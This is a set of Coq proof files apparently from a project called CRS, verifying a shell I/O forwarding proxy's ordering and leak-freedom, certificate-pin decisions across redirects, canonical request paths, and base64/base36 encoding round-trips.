  - (* PReadCancelled *)
    destruct (rd s) eqn:Er; try exact H. destruct (cancelled s) eqn:Ec; try exact H.
    inv_intro H. rewrite Er in *. constructor; cbn.
    + exists a, b. cbn in Hc. repeat split; auto. all: fin.
    + eapply qshape_done; exact Hq.
    + exact Hl.
    + intros Hf. destruct (Hs Hf) as [Hq0 _]. split; [exact Hq0 | reflexivity].
    + exact Hqc.
    + exact Hoc.
  - (* PReadErrCancel *)
    destruct (rd s) eqn:Er; try exact H. destruct (cancelled s) eqn:Ec; try exact H.
    inv_intro H. rewrite Er in *. constructor; cbn.
    + exists a, b. cbn in Hc. repeat split; auto. all: fin.
    + eapply qshape_live; [exact Hq | discriminate].
    + exact Hl.
    + intros Hf. destruct (Hs Hf) as [_ Hr]; discriminate Hr.
    + exact Hqc.
    + exact Hoc.
  - (* PSendData *)
    destruct (rd s) as [|d er| |] eqn:Er; try exact H.
    destruct (Nat.ltb_spec (length (q s)) qcap) as [Hlt|]; try exact H.
    inv_intro H. rewrite Er in *.
    assert (b = []) as -> by (destruct b; [reflexivity | specialize (Hb ltac:(discriminate)); discriminate]).
    constructor; cbn.
    + exists a, []. split.
      * rewrite Hc, qdata_app. cbn. destruct er; cbn; rewrite ?app_nil_r, <- ?app_assoc; reflexivity.
      * repeat split; auto. all: fin.
    + destruct er; eapply qshape_snoc_data; try exact Hq; discriminate.
    + exact Hl.
    + intros Hf. destruct (Hs Hf) as [_ Hr]; discriminate Hr.
    + rewrite app_length. cbn. unfold qcap in *. lia.
    + exact Hoc.
  - (* PSendErr *)
    destruct (rd s) eqn:Er; try exact H.
    destruct (Nat.ltb_spec (length (q s)) qcap) as [Hlt|]; try exact H.
    inv_intro H. rewrite Er in *.
    assert (b = []) as -> by (destruct b; [reflexivity | specialize (Hb ltac:(discriminate)); discriminate]).
    constructor; cbn.
    + exists a, []. split.
      * rewrite Hc, qdata_app. cbn. rewrite ?app_nil_r. reflexivity.
      * repeat split; auto. all: fin.
    + eapply qshape_snoc_err; [exact Hq | discriminate].
    + exact Hl.
    + intros Hf. destruct (Hs Hf) as [_ Hr]; discriminate Hr.
    + rewrite app_length. cbn. unfold qcap in *. lia.
    + exact Hoc.
  - (* PReaderQuit *)
    destruct (rd s) as [|d er| |] eqn:Er; try exact H; destruct (cancelled s) eqn:Ec; try exact H;
      inv_intro H; rewrite Er in *;
      assert (b = []) as -> by (destruct b; [reflexivity | specialize (Hb ltac:(discriminate)); discriminate]).
    + constructor; cbn.
      * exists a, [d]. cbn in Hc. repeat split; auto. all: fin.
      * eapply qshape_done; exact Hq.
      * exact Hl.
      * intros Hf. destruct (Hs Hf) as [Hq0 _]. split; [exact Hq0 | reflexivity].
      * exact Hqc.
      * exact Hoc.
    + constructor; cbn.
      * exists a, []. cbn in Hc. repeat split; auto. all: fin.
      * eapply qshape_done; exact Hq.
      * exact Hl.
      * intros Hf. destruct (Hs Hf) as [Hq0 _]. split; [exact Hq0 | reflexivity].
      * exact Hqc.
      * exact Hoc.
  - (* PRecv *)
    destruct (fw s) eqn:Ef; try exact H. destruct (q s) as [|[d|] r] eqn:Eq; try exact H.
    + inv_intro H. rewrite Ef, Eq in *.
      assert (a = []) as -> by (destruct a; [reflexivity | specialize (Ha ltac:(discriminate)); discriminate]).
      constructor; cbn.
      * exists [], b. cbn in Hc. repeat split; auto. all: fin.
      * eapply qshape_tail; exact Hq.
      * exact Hl.
      * intros [X|X]; discriminate X.
      * cbn in Hqc. lia.
      * exact Hoc.
    + inv_intro H. rewrite Ef, Eq in *.
      assert (a = []) as -> by (destruct a; [reflexivity | specialize (Ha ltac:(discriminate)); discriminate]).
      destruct (qshape_err_head _ _ Hq) as [-> Hr].
      constructor; cbn.
      * exists [], b. cbn in Hc. repeat split; auto. all: fin.
      * exists []. left. reflexivity.
      * exact Hl.
      * intros _. split; [reflexivity | exact Hr].
      * lia.
      * exact Hoc.
  - (* PRecvClosed *)
    destruct (fw s) eqn:Ef; try exact H. destruct (q s) eqn:Eq; try exact H. destruct (rd s) eqn:Er; try exact H.
    inv_intro H. rewrite Ef, Eq, Er in *.
    constructor; cbn; rewrite ?Er.
    + exists a, b. cbn in Hc. repeat split; auto. all: fin.
    + exists []. left. reflexivity.
    + exact Hl.
    + intros _. split; reflexivity.
    + lia.
    + exact Hoc.
  - (* PSelCancel *)
    destruct (fw s) eqn:Ef; try exact H. destruct (cancelled s) eqn:Ec; try exact H.
    inv_intro H. rewrite Ef in *.
    constructor; cbn.
    + exists a, b. cbn in Hc. repeat split; auto. all: fin.
    + exact Hq.
    + exact Hl.
    + intros [X|X]; discriminate X.
    + exact Hqc.
    + exact Hoc.
  - (* PForward *)
    destruct (fw s) as [|d| | |] eqn:Ef; try exact H.
    destruct (Nat.ltb_spec (length (och s)) cap) as [Hlt|]; try exact H.
    inv_intro H. rewrite Ef in *.
    assert (a = []) as -> by (destruct a; [reflexivity | specialize (Ha ltac:(discriminate)); discriminate]).
    constructor; cbn.
    + exists [], b. split.
      * rewrite Hc. cbn. destruct (cancelled s); cbn; rewrite <- !app_assoc; reflexivity.
      * repeat split; auto. all: fin.
    + exact Hq.
    + rewrite Hl, app_assoc. reflexivity.
    + intros [X|X]; destruct (cancelled s); discriminate X.
    + exact Hqc.
    + rewrite app_length. cbn. lia.
  - (* PDrop *)
    destruct (fw s) as [|d| | |] eqn:Ef; try exact H. destruct (cancelled s) eqn:Ec; try exact H.
    inv_intro H. rewrite Ef in *.
    assert (a = []) as -> by (destruct a; [reflexivity | specialize (Ha ltac:(discriminate)); discriminate]).
    constructor; cbn.
    + exists [d], b. cbn in Hc. repeat split; auto. all: fin.
    + exact Hq.
    + exact Hl.
    + intros [X|X]; discriminate X.
    + exact Hqc.
    + exact Hoc.
  - (* PDrain *)
    destruct (och s) as [|d r] eqn:Eo; try exact H.
    inv_intro H. rewrite Eo in *.
    constructor; cbn.
    + exists a, b. split; [rewrite Hc, <- !app_assoc; reflexivity | repeat split; auto]. all: fin.
    + exact Hq.
    + rewrite Hl, <- app_assoc. reflexivity.
    + exact Hs.
    + exact Hqc.
    + cbn in Hoc. lia.
  - (* PCancel *)
    inv_intro H. constructor; cbn; auto.
    exists a, b. repeat split; auto. all: fin.
Qed.

Lemma Inv_run cap es : forall s, Inv cap s -> Inv cap (prun cap s es).
Proof. induction es as [|e es IH]; intros s H; [exact H|]. cbn. apply IH, Inv_step, H. Qed.
Lemma Inv_reachable cap reads es : Inv cap (prun cap (pinit reads) es).
Proof. apply Inv_run, Inv_init. Qed.

(** ** Consequences, for every run *)

(** What has been shown (or is waiting in the operator channel) is always a
    prefix of what the shell sent, chunk by chunk: nothing reordered,
    duplicated, altered or invented - whatever the speeds, whenever cancelled. *)
Lemma shown_prefix cap reads es :
  let s := prun cap (pinit reads) es in
  exists rest, readc s = shown s ++ och s ++ rest.
Proof.
  cbn. destruct (Inv_reachable cap reads es) as [[a [b [Hc _]]] _ _ _ _ _].
  eexists. exact Hc.
Qed.

(** When the stream ends by itself (its own error reaches the forwarding loop)
    while the shell is still attached, EVERYTHING read before the end has been
    handed to the operator channel - before proxyOut returns, hence before the
    close notice the same goroutine sends afterwards on the same channel. *)
Lemma self_end_complete cap reads es :
  let s := prun cap (pinit reads) es in
  fw s = FEndSelf -> cancelled s = false -> readc s = shown s ++ och s.
Proof.
  cbn. intros Hf Hn. destruct (Inv_reachable cap reads es) as [[a [b [Hc [_ [_ Hnn]]]]] _ _ Hs _ _].
  destruct (Hnn Hn) as [-> ->]. destruct (Hs (or_introl Hf)) as [Hq Hr].
  rewrite Hc, Hf, Hq, Hr. cbn. rewrite !app_nil_r. reflexivity.
Qed.

(** The 'Shell I/O' output records are exactly the chunks handed to the
    operator, in order: nothing undelivered is logged, nothing delivered is
    missing from the log. *)
Lemma logged_is_delivered cap reads es :
  let s := prun cap (pinit reads) es in logged s = shown s ++ och s.
Proof. cbn. apply (i_logged _ _ (Inv_reachable cap reads es)). Qed.

(** Bounded memory: never more than two chunks queued inside, never more than
    the channel's capacity waiting for the terminal. *)
Lemma queues_bounded cap reads es :
  let s := prun cap (pinit reads) es in (length (q s) <= 2)%nat /\ (length (och s) <= cap)%nat.
Proof. cbn. destruct (Inv_reachable cap reads es) as [_ _ _ _ H1 H2]. split; [exact H1 | exact H2]. Qed.

(** ** Nothing keeps running (C04): after cancellation both goroutines can
    always leave, whatever the queues hold - in ANY state, reachable or not. *)
Lemma reader_leaves cap s : cancelled s = true -> rd (pnext cap (pnext cap s PReaderQuit) PReadCancelled) = RDone.
Proof. intros Hc. cbn [pnext]. destruct (rd s) eqn:Er; rewrite Hc; cbn; rewrite ?Er, ?Hc; reflexivity. Qed.
Lemma forwarder_leaves cap s : cancelled s = true -> fw_done (fw s) = false ->
  fw_done (fw (pnext cap (pnext cap s PDrop) PSelCancel)) = true.
Proof. intros Hc Hd. cbn [pnext]. destruct (fw s) eqn:Ef; try discriminate; rewrite Hc; cbn; rewrite ?Ef, ?Hc; reflexivity. Qed.
(** and a stream that ended by itself leaves no reader behind *)
Lemma self_end_no_reader cap reads es :
  let s := prun cap (pinit reads) es in fw s = FEndSelf \/ fw s = FEndClosed -> rd s = RDone /\ q s = [].
Proof. cbn. intros Hf. destruct (i_self _ _ (Inv_reachable cap reads es) Hf) as [H1 H2]. split; assumption. Qed.

(** ** The reader before the repair could be left behind for good *)
Definition leak_run : list pev :=
  [PRead; PSendData; PRead; PSendData; PRecv; PRead; PSendData; PRead; PCancel; PDrop].
(* four reads (the last with the stream's error) into a stalled terminal of capacity 0, then the client goes away *)
Definition leak_reads : list (bytes * bool) := [([1], false); ([2], false); ([3], false); ([], true)].
Definition stuck_old (s : pst) : Prop := rd s = RErr /\ length (q s) = 2%nat /\ fw s = FEndCancel.

Lemma stuck_old_forever s es : stuck_old s -> stuck_old (fold_left (pnext_old 0) es s).
Proof.
  revert s. induction es as [|e es IH]; intros s H; [exact H|]. cbn [fold_left]. apply IH.
  destruct H as [Hr [Hq Hf]]. unfold stuck_old.
  assert (Hlt : Nat.ltb (length (q s)) qcap = false) by (rewrite Hq; reflexivity).
  destruct e; unfold pnext_old; rewrite ?Hr; cbn [pnext]; rewrite ?Hr, ?Hf, ?Hlt;
    try (repeat split; assumption).
  all: try (destruct (cancelled s); repeat split; assumption).
  all: try (destruct (och s); cbn; repeat split; assumption).
  all: try (cbn; repeat split; assumption).
  all: try (destruct (rd s); destruct (cancelled s); cbn; repeat split; assumption).
Qed.
Lemma old_reader_leaks :
  let s := fold_left (pnext_old 0) leak_run (pinit leak_reads) in
  cancelled s = true /\ fw_done (fw s) = true /\ forall es, rd (fold_left (pnext_old 0) es s) = RErr.
Proof.
  cbn zeta. split; [reflexivity|]. split; [reflexivity|].
  intros es. apply (stuck_old_forever _ es). repeat split.
Qed.
(** ... and in that very state the repaired reader leaves at once. *)
Lemma new_reader_leaves_there :
  rd (pnext 0 (fold_left (pnext 0) leak_run (pinit leak_reads)) PReaderQuit) = RDone.
Proof. reflexivity. Qed.
