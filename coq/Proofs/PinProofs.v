(** C13: the pin decision. *)
From CRS Require Import Lib.Bytes Lib.Sha256 Lib.Base64 Model.Pin Proofs.CodecProofs.
From Coq Require Import ZifyN ZifyBool.
Open Scope N_scope.

(** ** SHA-256 returns 32 bytes *)
Lemma be_bytes_length n x : length (be_bytes n x) = n.
Proof. revert x; induction n as [|n IH]; intros x; [reflexivity|]. cbn. rewrite app_length, IH. cbn. lia. Qed.
Lemma be_bytes_wf n x : wf_bytes (be_bytes n x).
Proof.
  revert x; induction n as [|n IH]; intros x; [constructor|]. cbn. apply Forall_app. split; [apply IH|].
  constructor; [unfold wf_byte; apply N.mod_lt; discriminate | constructor].
Qed.

Lemma round_length st kw : length st = 8%nat -> length (round st kw) = 8%nat.
Proof.
  intros H. destruct st as [|a [|b [|c [|d [|e [|f [|g [|h [|]]]]]]]]]; try discriminate. reflexivity.
Qed.
Lemma fold_round_length l : forall st, length st = 8%nat -> length (fold_left round l st) = 8%nat.
Proof. induction l as [|kw l IH]; intros st H; [exact H|]. cbn. apply IH, round_length, H. Qed.
Lemma compress_length h b : length h = 8%nat -> length (compress h b) = 8%nat.
Proof.
  intros H. unfold compress. rewrite map_length, combine_length, fold_round_length by exact H. rewrite H. reflexivity.
Qed.
Lemma fold_compress_length bs : forall h, length h = 8%nat -> length (fold_left compress bs h) = 8%nat.
Proof. induction bs as [|b bs IH]; intros h H; [exact H|]. cbn. apply IH, compress_length, H. Qed.

Lemma flat_map_be4_length (l : list N) : length (flat_map (be_bytes 4) l) = (4 * length l)%nat.
Proof. induction l as [|x l IH]; [reflexivity|]. cbn [flat_map]. rewrite app_length, be_bytes_length, IH. cbn. lia. Qed.
Lemma flat_map_be4_wf (l : list N) : wf_bytes (flat_map (be_bytes 4) l).
Proof. induction l as [|x l IH]; [constructor|]. cbn [flat_map]. apply Forall_app. split; [apply be_bytes_wf | exact IH]. Qed.

Theorem sha256_length m : length (sha256 m) = 32%nat.
Proof. unfold sha256. rewrite flat_map_be4_length, fold_compress_length; reflexivity. Qed.
Theorem sha256_wf m : wf_bytes (sha256 m).
Proof. unfold sha256. apply flat_map_be4_wf. Qed.

(** ** Fingerprints *)
Lemma strip_crlf_id l : forallb b64_alpha l = true -> strip_crlf l = l.
Proof.
  induction l as [|c l IH]; intros H; [reflexivity|]. cbn in H. apply andb_true_iff in H as [Hc Hl].
  cbn [strip_crlf filter].
  assert ((c =? 13) || (c =? 10) = false) as ->.
  { unfold b64_alpha in Hc. destruct (c =? 13) eqn:E1; [apply N.eqb_eq in E1; subst; discriminate|].
    destruct (c =? 10) eqn:E2; [apply N.eqb_eq in E2; subst; discriminate | reflexivity]. }
  cbn. f_equal. apply IH, Hl.
Qed.

(** The pin of a key, as printed by the listener, is accepted — with or
    without the sha256// prefix — and stands for exactly that key's hash. *)
Theorem parse_own_pin spki : parse_fp (b64enc (sha256 spki)) = Some (sha256 spki) \/ bprefix prefix_str (b64enc (sha256 spki)) = true.
Proof.
  destruct (bprefix prefix_str (b64enc (sha256 spki))) eqn:E; [right; reflexivity|left].
  unfold parse_fp, trim_prefix. rewrite E.
  rewrite strip_crlf_id by (apply b64enc_alpha, sha256_wf).
  rewrite b64_roundtrip by apply sha256_wf. rewrite sha256_length. reflexivity.
Qed.

Theorem parse_with_prefix x : bprefix prefix_str x = false -> parse_fp (prefix_str ++ x) = parse_fp x.
Proof.
  intros H. unfold parse_fp, trim_prefix. rewrite H.
  assert (bprefix prefix_str (prefix_str ++ x) = true) as -> by (apply bprefix_spec; exists x; reflexivity).
  assert (skipn (length prefix_str) (prefix_str ++ x) = x) as -> by reflexivity. reflexivity.
Qed.

(** The decision: with a fingerprint configured, traffic is sent iff it is
    well-formed (decodes to 32 bytes) and SOME presented certificate's
    SubjectPublicKeyInfo hashes to it (all 32 bytes equal; any position). *)
Theorem go_call_sent_iff fp chain trusted : fp <> [] ->
  (go_call fp chain trusted = Sent <->
   exists want, parse_fp fp = Some want /\ exists spki, In spki chain /\ sha256 spki = want).
Proof.
  intros Hne. unfold go_call. destruct fp as [|c fp]; [congruence|].
  destruct (parse_fp (c :: fp)) as [want|]; split; intros H.
  - destruct (verify want chain) eqn:E; [|discriminate]. exists want. split; [reflexivity|].
    unfold verify in E. apply existsb_exists in E as (s & Hs & Eb). exists s. split; [exact Hs | apply beq_eq; exact Eb].
  - destruct H as (w & Ew & s & Hs & Eh). injection Ew as Ew. rewrite <- Ew in Eh.
    assert (verify want chain = true) as ->; [|reflexivity].
    unfold verify. apply existsb_exists. exists s. split; [exact Hs | apply beq_eq; exact Eh].
  - discriminate.
  - destruct H as (w & Ew & _). discriminate.
Qed.

Theorem malformed_refused fp chain trusted : fp <> [] -> parse_fp fp = None ->
  go_call fp chain trusted = RefusedBadFingerprint.
Proof. intros Hne H. unfold go_call. destruct fp; [congruence|]. rewrite H. reflexivity. Qed.

Theorem no_pin_ordinary_validation chain trusted :
  go_call [] chain trusted = if trusted then Sent else RefusedValidation.
Proof. reflexivity. Qed.

(** Position in the chain is irrelevant. *)
Theorem verify_any_position want a b spki : sha256 spki = want -> verify want (a ++ spki :: b) = true.
Proof.
  intros H. unfold verify. apply existsb_exists. exists spki. split; [apply in_or_app; right; left; reflexivity | apply beq_eq; exact H].
Qed.

(** ** Redirects: every hop is held to the pin *)
Lemma go_hops_sent_prefix fp hops k :
  nth_error (go_hops fp hops) k = Some Sent ->
  forall j, (j <= k)%nat -> exists chain trusted, nth_error hops j = Some (chain, trusted) /\ go_call fp chain trusted = Sent.
Proof.
  revert k. induction hops as [|[chain trusted] r IH]; intros k H j Hj.
  - destruct k; discriminate.
  - cbn [go_hops] in H. case_eq (go_call fp chain trusted); intros E; rewrite E in H.
    + destruct j as [|j].
      * exists chain, trusted. split; [reflexivity | exact E].
      * destruct k as [|k]; [inversion Hj|]. cbn [nth_error] in H |- *. apply (IH k H j). apply le_S_n. exact Hj.
    + destruct k as [|k]; [discriminate|]. destruct k; discriminate.
    + destruct k as [|k]; [discriminate|]. destruct k; discriminate.
    + destruct k as [|k]; [discriminate|]. destruct k; discriminate.
Qed.

(** With a fingerprint configured, the k-th server a call is led to receives a request only if that server AND every
    server before it presented a certificate with the pinned key. *)
Theorem redirects_are_pinned fp want hops k : fp <> [] -> parse_fp fp = Some want ->
  nth_error (go_hops fp hops) k = Some Sent ->
  forall j, (j <= k)%nat -> exists chain trusted, nth_error hops j = Some (chain, trusted) /\ verify want chain = true.
Proof.
  intros Hfp Hp H j Hj. destruct (go_hops_sent_prefix fp hops k H j Hj) as (chain & trusted & Hn & Hs).
  exists chain, trusted. split; [exact Hn|]. unfold go_call in Hs. destruct fp as [|c fp']; [congruence|].
  rewrite Hp in Hs. destruct (verify want chain); [reflexivity | discriminate].
Qed.

Lemma go_hops_length fp hops : (length (go_hops fp hops) <= length hops)%nat.
Proof.
  induction hops as [|[chain trusted] r IH]; [apply le_n|]. cbn [go_hops length].
  destruct (go_call fp chain trusted); cbn [length]; try (apply le_n_S; exact IH); apply le_n_S, Nat.le_0_l.
Qed.
