(** C09: a request the mux hands to the handlers has a canonical escaped path. *)
From CRS Require Import Lib.Bytes Lib.PathClean Model.Files Proofs.PathProofs.
Open Scope N_scope.

(** If net/http's mux does not answer a request itself (301 to the cleaned
    path), its escaped path IS its own clean form - "/" or "/e1/e2/..." with
    every element non-empty, not ".", not "..", free of '/' - possibly followed
    by one trailing slash.  Whatever reaches the file handler (or a shell
    handler) contains no dot segments and no repeated slashes. *)
Theorem handler_paths_canonical e : mux_redirects e = false ->
  exists segs, Forall good_seg segs /\ (e = join_rooted segs \/ e = join_rooted segs ++ [47]).
Proof.
  unfold mux_redirects, mux_clean. intros H. apply negb_false_iff, beq_eq in H.
  destruct (clean_rooted_confined e) as [segs [Hs Hc]]. unfold resolve in Hc.
  exists segs. split; [exact Hs|].
  destruct (rev e) as [|c r]; [left; rewrite <- H; exact Hc|].
  destruct ((c =? 47) && negb (beq (clean_rooted e) [47])).
  - right. rewrite <- H at 1. rewrite Hc. reflexivity.
  - left. rewrite <- H. exact Hc.
Qed.
