(** Base64 and base-36 facts used by C05 / C07 / C13. *)
From CRS Require Import Lib.Bytes Lib.Base64 Lib.Base36.
From Coq Require Import ZifyN ZifyBool.
Open Scope N_scope.
Ltac Zify.zify_post_hook ::= Z.div_mod_to_equations.

(** ** Base64 *)
Lemma b64val_char v : v < 64 -> b64val (b64char v) = Some v.
Proof.
  intros H. assert (Hs : forallb (fun k => match b64val (b64char k) with Some r => r =? k | None => false end)
                           (map N.of_nat (seq 0 64)) = true) by (vm_compute; reflexivity).
  rewrite forallb_forall in Hs. specialize (Hs v).
  assert (Hin : In v (map N.of_nat (seq 0 64))).
  { apply in_map_iff. exists (N.to_nat v). split; [lia|]. apply in_seq. lia. }
  specialize (Hs Hin). destruct (b64val (b64char v)) as [r|]; [|discriminate]. apply N.eqb_eq in Hs. congruence.
Qed.

Lemma b64char_not_pad v : v < 64 -> b64char v <> 61.
Proof.
  intros H. assert (Hs : forallb (fun k => negb (b64char k =? 61)) (map N.of_nat (seq 0 64)) = true) by (vm_compute; reflexivity).
  rewrite forallb_forall in Hs. specialize (Hs v).
  assert (Hin : In v (map N.of_nat (seq 0 64))).
  { apply in_map_iff. exists (N.to_nat v). split; [lia|]. apply in_seq. lia. }
  specialize (Hs Hin). apply negb_true_iff, N.eqb_neq in Hs. exact Hs.
Qed.

Lemma b64char_not_pad_b v : v < 64 -> (b64char v =? 61) = false.
Proof. intros H. apply N.eqb_neq, b64char_not_pad, H. Qed.

(** Decoding what the encoder wrote returns the bytes: the encoder is injective
    (two different 32-byte hashes never share a fingerprint string). *)
Lemma b64_roundtrip_n n : forall l, (length l <= n)%nat -> wf_bytes l ->
  forall fuel, (length (b64enc l) <= fuel)%nat -> b64dec_fuel fuel (b64enc l) = Some l.
Proof.
  induction n as [|n IH]; intros l Hl Hwf fuel Hf.
  - destruct l; [destruct fuel; reflexivity | cbn in Hl; lia].
  - destruct l as [|a [|b [|c r]]].
    + destruct fuel; reflexivity.
    + inversion Hwf as [|? ? Ha _]; subst. unfold wf_byte in Ha. cbn [b64enc] in *.
      destruct fuel as [|fuel]; [cbn in Hf; lia|]. cbn [b64dec_fuel N.eqb Pos.eqb].
      rewrite !b64val_char by lia. f_equal. f_equal. lia.
    + inversion Hwf as [|? ? Ha Hr]; subst. inversion Hr as [|? ? Hb _]; subst. unfold wf_byte in *.
      cbn [b64enc] in *. destruct fuel as [|fuel]; [cbn in Hf; lia|]. cbn [b64dec_fuel N.eqb Pos.eqb].
      rewrite b64char_not_pad_b by lia. rewrite !b64val_char by lia. f_equal. f_equal; [lia|]. f_equal. lia.
    + inversion Hwf as [|? ? Ha Hr]; subst. inversion Hr as [|? ? Hb Hr2]; subst. inversion Hr2 as [|? ? Hc Hr3]; subst.
      unfold wf_byte in *. cbn [b64enc] in *. destruct fuel as [|fuel]; [cbn in Hf; lia|].
      cbn [b64dec_fuel]. rewrite b64char_not_pad_b by lia. rewrite !b64val_char by lia.
      rewrite IH; [|cbn in Hl; lia | exact Hr3 | cbn in Hf; lia].
      f_equal. f_equal; [lia|]. f_equal; [lia|]. f_equal. lia.
Qed.

Theorem b64_roundtrip l : wf_bytes l -> b64dec (b64enc l) = Some l.
Proof. intros H. unfold b64dec. eapply b64_roundtrip_n; [apply le_n | exact H | apply le_n]. Qed.

Theorem b64enc_injective a b : wf_bytes a -> wf_bytes b -> b64enc a = b64enc b -> a = b.
Proof.
  intros Ha Hb E. pose proof (b64_roundtrip a Ha) as Ra. rewrite E, (b64_roundtrip b Hb) in Ra. congruence.
Qed.

(** Encoder output uses only the base64 alphabet and '=' *)
Definition b64_alpha (c : N) : bool :=
  ((65 <=? c) && (c <=? 90)) || ((97 <=? c) && (c <=? 122)) || ((48 <=? c) && (c <=? 57)) || (c =? 43) || (c =? 47) || (c =? 61).
Lemma b64char_alpha v : v < 64 -> b64_alpha (b64char v) = true.
Proof.
  intros H. assert (Hs : forallb (fun k => b64_alpha (b64char k)) (map N.of_nat (seq 0 64)) = true) by (vm_compute; reflexivity).
  rewrite forallb_forall in Hs. apply Hs. apply in_map_iff. exists (N.to_nat v). split; [lia|]. apply in_seq. lia.
Qed.
Lemma b64enc_alpha_n n : forall l, (length l <= n)%nat -> wf_bytes l -> forallb b64_alpha (b64enc l) = true.
Proof.
  induction n as [|n IH]; intros l Hl Hwf; [destruct l; [reflexivity | cbn in Hl; lia]|].
  destruct l as [|a [|b [|c r]]]; [reflexivity| | |].
  - inversion Hwf as [|? ? Ha _]; subst. unfold wf_byte in *. cbn [b64enc forallb]. rewrite !b64char_alpha by lia. reflexivity.
  - inversion Hwf as [|? ? Ha Hr]; subst. inversion Hr as [|? ? Hb _]; subst. unfold wf_byte in *.
    cbn [b64enc forallb]. rewrite !b64char_alpha by lia. reflexivity.
  - inversion Hwf as [|? ? Ha Hr]; subst. inversion Hr as [|? ? Hb Hr2]; subst. inversion Hr2 as [|? ? Hc Hr3]; subst.
    unfold wf_byte in *. cbn [b64enc forallb]. rewrite !b64char_alpha by lia.
    rewrite IH; [reflexivity | cbn in Hl; lia | exact Hr3].
Qed.
Theorem b64enc_alpha l : wf_bytes l -> forallb b64_alpha (b64enc l) = true.
Proof. intros H. eapply b64enc_alpha_n; [apply le_n | exact H]. Qed.

(** ** Base 36 *)
Lemma d36_chars v : v < 36 -> (48 <= d36 v <= 57) \/ (97 <= d36 v <= 122).
Proof. intros H. unfold d36. destruct (v <? 10) eqn:E; lia. Qed.
Lemma v36_d36 v : v < 36 -> v36 (d36 v) = v.
Proof. intros H. unfold v36, d36. destruct (v <? 10) eqn:E; [assert ((48 + v <? 58) = true) as -> by lia; lia|].
  assert ((87 + v <? 58) = false) as -> by lia. lia. Qed.

Definition id_char (c : N) : Prop := (48 <= c <= 57) \/ (97 <= c <= 122).

Lemma b36_chars fuel : forall n, Forall id_char (b36_fuel fuel n).
Proof.
  induction fuel as [|f IH]; intros n; [constructor|]. cbn [b36_fuel].
  destruct (n <? 36) eqn:E.
  - constructor; [apply d36_chars; lia | constructor].
  - apply Forall_app. split; [apply IH|]. constructor; [apply d36_chars; lia | constructor].
Qed.

Lemma unbase36_app l c : unbase36 (l ++ [c]) = unbase36 l * 36 + v36 c.
Proof. unfold unbase36. rewrite fold_left_app. reflexivity. Qed.

Lemma b36_roundtrip fuel : forall n, n < 36 ^ N.of_nat fuel -> unbase36 (b36_fuel fuel n) = n.
Proof.
  induction fuel as [|f IH]; intros n H.
  - cbn in H. assert (n = 0) by lia. subst. reflexivity.
  - cbn [b36_fuel]. destruct (n <? 36) eqn:E.
    + unfold unbase36. cbn. rewrite v36_d36 by lia. lia.
    + rewrite unbase36_app, v36_d36 by lia. rewrite IH.
      * lia.
      * replace (N.of_nat (S f)) with (N.succ (N.of_nat f)) in H by lia. rewrite N.pow_succ_r' in H.
        apply N.div_lt_upper_bound; lia.
Qed.

(** IDs are made of [0-9a-z] only, and two scripts share an ID only if the
    generator returned the same 64-bit number. *)
Theorem base36_chars n : Forall id_char (base36 n).
Proof. apply b36_chars. Qed.
Theorem base36_injective a b : a < 2 ^ 64 -> b < 2 ^ 64 -> base36 a = base36 b -> a = b.
Proof.
  intros Ha Hb E. unfold base36 in E.
  assert (P : 2 ^ 64 < 36 ^ N.of_nat 14) by (vm_compute; reflexivity).
  rewrite <- (b36_roundtrip 14 a), <- (b36_roundtrip 14 b), E by lia. reflexivity.
Qed.
Lemma base36_nonempty n : base36 n <> [].
Proof. unfold base36. cbn [b36_fuel]. destruct (n <? 36); [discriminate|]. intro H. apply app_eq_nil in H as [_ H]. discriminate. Qed.
