(** C17: facts about the model of Converter.From. *)
From CRS Require Import Lib.Bytes Lib.Sort Lib.Split Model.Perl Model.FuncList Model.Conv.
Open Scope N_scope.

Section P.
  Variable matches : bytes -> bytes -> bool.
  Variable bad : bytes -> bool.
  Notation from_reader := (from_reader matches bad).
  Notation from_single := (from_single matches bad).
  Notation from_sources := (from_sources matches bad).
  Notation convert_files := (convert_files matches bad).
  Notation from_dir := (from_dir matches bad).

  (** fromReader picks the FIRST pattern (in table order) that matches. *)
  Lemma from_reader_first t name content :
    existsb (fun pf => bad (fst pf)) t = false ->
    from_reader t name content =
    match find (fun pf => matches (fst pf) (path_base name)) t with
    | Some (_, f) => Some (match apply_filter f name content with
                           | Some b => ROk (ensure_nl b) | None => RErr 2 end)
    | None => None
    end.
  Proof.
    induction t as [|[p f] t IH]; intros Hb; [reflexivity|].
    cbn [existsb fst] in Hb. apply orb_false_iff in Hb as [Hp Ht].
    cbn [Conv.from_reader find fst]. rewrite Hp.
    destruct (matches p (path_base name)); [reflexivity | apply IH; exact Ht].
  Qed.

  (** A single file: content unchanged when no pattern matches its base name. *)
  Lemma single_unmatched tab name content :
    existsb (fun pf => bad (fst pf)) (sort_table tab) = false ->
    forallb (fun pf => negb (matches (fst pf) (path_base name))) (sort_table tab) = true ->
    from_single tab name content = ROk content.
  Proof.
    intros Hb Hn. unfold Conv.from_single. rewrite from_reader_first by exact Hb.
    replace (find (fun pf => matches (fst pf) (path_base name)) (sort_table tab)) with (@None (bytes * filt)); [reflexivity|].
    symmetry. induction (sort_table tab) as [|[p f] t IH]; [reflexivity|].
    cbn [forallb fst] in Hn. apply andb_true_iff in Hn as [H1 H2]. cbn [find fst].
    apply negb_true_iff in H1. rewrite H1. apply IH.
    - cbn [existsb fst] in Hb. apply orb_false_iff in Hb as [_ Hb]. exact Hb.
    - exact H2.
  Qed.

  (** Several sources are concatenated in the order given. *)
  Lemma sources_app tab a b :
    from_sources tab (a ++ b) =
    match from_sources tab a with
    | ROk x => match from_sources tab b with ROk y => ROk (x ++ y) | e => e end
    | e => e
    end.
  Proof.
    induction a as [|s a IH]; cbn [app Conv.from_sources].
    - destruct (from_sources tab b); reflexivity.
    - destruct (from_one matches bad tab s) as [x|e]; [|reflexivity]. rewrite IH.
      destruct (from_sources tab a) as [y|e]; [|reflexivity].
      destruct (from_sources tab b) as [z|e]; [rewrite app_assoc; reflexivity | reflexivity].
  Qed.

  (** Names that start with a dot, directories and special files contribute
      nothing to the conversion and can not make it fail — whatever they are
      (dangling links included, for dot-names). *)
  Lemma convert_skip_dot t d n r : is_dot n = true ->
    convert_files t d (n :: r) = convert_files t d r.
  Proof. intros H. cbn [Conv.convert_files]. rewrite H. reflexivity. Qed.

  Lemma convert_skip_nonregular t d n r : is_dot n = false ->
    (lookup d n = Some KDir \/ lookup d n = Some KSpecial) ->
    convert_files t d (n :: r) = convert_files t d r.
  Proof. intros H [E|E]; cbn [Conv.convert_files]; rewrite H, E; reflexivity. Qed.

  (** Every part is newline-terminated (unless empty). *)
